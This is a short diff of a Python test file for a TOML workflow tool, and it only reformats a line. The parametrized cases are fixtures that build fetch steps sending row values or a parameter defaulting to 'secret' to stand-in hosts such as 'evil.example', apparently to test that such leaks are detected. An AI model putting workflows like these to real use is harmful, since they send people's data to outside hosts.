@@ -46,7 +46,8 @@ def no_requests(monkeypatch: pytest.MonkeyPatch) -> None:
         '[[steps]]\nid = "in"\nuse = "load"\nfiles = ["places.csv"]\n'
         + FETCH.format(service="https://{host}.evil.example/{name}", more='each = { rows = "in:places" }\n'),
         # what a parameter holds goes along as a condition
-        '[parameters.what]\ntype = "text"\ndefault = "secret"\n' + FETCH.format(service="https://evil.example", more='where = { q = "{what}" }\n'),
+        '[parameters.what]\ntype = "text"\ndefault = "secret"\n'
+        + FETCH.format(service="https://evil.example", more='where = { q = "{what}" }\n'),
         # inside another workflow
         '[[steps]]\nid = "w"\nuse = "workflow"\nfile = "inner.toml"\n',
     ],
